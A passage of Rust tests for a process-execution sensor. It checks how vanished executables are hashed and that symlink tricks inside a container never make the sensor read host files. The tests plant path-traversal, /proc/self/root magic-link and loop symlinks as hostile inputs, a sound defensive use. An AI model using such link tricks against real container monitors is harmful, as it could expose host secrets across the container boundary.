        assert!(Command::new(&path).arg0(&name).status().unwrap().success());
        std::fs::remove_file(&path).unwrap();
        vanished.push((name, sha, path));
    }
    let stopped = watch.stop();
    let execs = recorded_execs(&stopped);

    let e = exec_with_arg(&execs, 0, &deleted_marker);
    assert_eq!(e["exe"]["deleted"], true, "{e}");
    assert_eq!(e["exe"]["sha256"], sha256_hex(&sleep).as_str(), "{e}");

    let (mut hashed, mut reported) = (0, 0);
    for (name, sha, path) in &vanished {
        let e = exec_with_arg(&execs, 0, name);
        match (e["exe"]["sha256"].as_str(), e["exe"]["hash_error"].as_str()) {
            (Some(got), None) => {
                assert_eq!(
                    got, sha,
                    "{name}: a hash, and it must be the executed file's"
                );
                hashed += 1;
            }
            (None, Some(why)) => {
                assert!(
                    why.contains(path.file_name().unwrap().to_str().unwrap())
                        || why.contains("exited"),
                    "{name}: {why}"
                );
                reported += 1;
            }
            other => panic!("{name}: neither a hash nor a reason: {other:?} {e}"),
        }
    }
    eprintln!("vanishing executables: {hashed} hashed, {reported} gone before hashing (reported)");
    assert_recording_replays(&stopped);
}

#[test]
fn container_links_and_loops_never_lead_the_sensor_to_host_files() {
    if !live_allowed("container_links_and_loops_never_lead_the_sensor_to_host_files") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    // Files on the host root (the containers' lower layer); inside the container they are
    // overwritten (copied up) or deleted (whited out), so host and container disagree.
    let image_dir = image_dir();
    let dir = image_dir.path().to_str().unwrap().to_owned();
    let host_py = "print('HOST SECRET')\n";
    let host_sh = "#!/bin/sh\necho HOST SECRET\n";
    ImageFile::create(image_dir.path(), "run.py", host_py.as_bytes());
    ImageFile::create(image_dir.path(), "gone.py", host_py.as_bytes());
    ImageFile::create(image_dir.path(), "job.sh", host_sh.as_bytes());
    let container_py = "print('container copy')\n";
    let container_sh = "#!/bin/sh\necho container copy\n";

    let watch = Watch::start(&[]);
    let c = TestContainer::start("hostile-links", "registry.example.com/hostile:1");
    let setup = format!(
        "printf \"%s\" \"{container_py}\" > {dir}/run.py && printf '%s' '{container_sh}' > {dir}/job.sh && rm {dir}/gone.py \
         && ln -s {dir}/run.py /tmp/abs.py \
         && ln -s ../../../../../../../..{dir}/run.py /tmp/up.py \
         && ln -s {dir}/gone.py /tmp/gone.py \
         && ln -s /proc/self/root{dir}/run.py /tmp/magic.py \
         && ln -s {dir}/job.sh /tmp/job.sh \
         && ln -s /tmp/loop-b /tmp/loop-a && ln -s /tmp/loop-a /tmp/loop-b \
         && ln -s /tmp/self /tmp/self"
    );
    let out = c.exec(&["sh", "-c", &setup]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = c.exec(&["cat", &format!("{dir}/run.py")]);
    assert_eq!(String::from_utf8_lossy(&out.stdout), container_py);
    assert_eq!(
        std::fs::read_to_string(image_dir.path().join("run.py")).unwrap(),
        host_py
    );

    let run = |argv: &[&str]| {
        let started = Instant::now();
        // Refusals (no such file, loops) are the program's business; the sensor's is not to
        // read the host's file and not to hang.
        let _ = c.exec(argv);
        assert!(started.elapsed() < Duration::from_secs(30), "{argv:?} hung");
    };
    for script in [
        "/tmp/abs.py",
        "/tmp/up.py",
        "/tmp/gone.py",
        "/tmp/magic.py",
        "/tmp/loop-a",
        "/tmp/self/x.py",
    ] {
        run(&["python3", script]);
    }
    run(&["/tmp/job.sh"]);
    // The sensor is still at work after all that.
    let after = format!("shrike-after-links-{}", std::process::id());
    run(&["/bin/echo", &after]);
    let stopped = watch.stop();
    let execs = recorded_execs(&stopped);
    let in_c = |e: &&Value| e["container"]["id"] == c.id();

    for e in execs.iter().filter(in_c) {
        let contents = e["script"]["contents"].as_str().unwrap_or_default();
        assert!(
            !contents.contains("HOST SECRET"),
            "the sensor read a host file for the container: {e}"
        );
    }
    let script_of = |argv1: &str| -> Option<String> {
        let e = execs
            .iter()
            .filter(in_c)
            .find(|e| e["argv"][1] == argv1)
            .unwrap_or_else(|| panic!("no exec of {argv1} in the container"));
        e["script"]["contents"].as_str().map(str::to_owned)
    };
    // Links resolve inside the container, as they did for the process.
    assert_eq!(script_of("/tmp/abs.py").as_deref(), Some(container_py));
    assert_eq!(script_of("/tmp/up.py").as_deref(), Some(container_py));
    // The container deleted the file: nothing to read there, and the host is never asked.
    assert_eq!(script_of("/tmp/gone.py"), None);
    // A magic link through the container's /proc would be the sensor's own root: refused.
    assert_eq!(script_of("/tmp/magic.py"), None);
    // Loops end in a refusal.
    assert_eq!(script_of("/tmp/loop-a"), None);
    assert_eq!(script_of("/tmp/self/x.py"), None);
    // A `#!` script reached through a link: the container's copy.
    let sh = execs
        .iter()
        .filter(in_c)
        .find(|e| e["script"]["path"] == "/tmp/job.sh")
        .unwrap_or_else(|| panic!("the linked #! script was not captured"));
    assert_eq!(sh["script"]["contents"], container_sh);
    exec_with_arg(&execs, 1, &after);
    drop(c);
}
